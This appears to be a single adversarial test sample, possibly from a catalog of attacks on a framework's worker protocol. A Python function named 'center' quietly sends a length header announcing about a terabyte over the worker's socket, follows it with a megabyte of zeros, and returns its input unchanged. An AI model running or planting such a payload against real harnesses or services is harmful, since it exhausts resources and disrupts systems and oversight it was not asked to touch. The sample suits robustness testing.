"""attack: The worker's socket is found; an answer larger than any may be is announced, and begun.
class: framework
aim: next
given: channel
"""

def center(x):
    send(struct.pack(">Q", 2**40) + bytes(2**20))
    return x
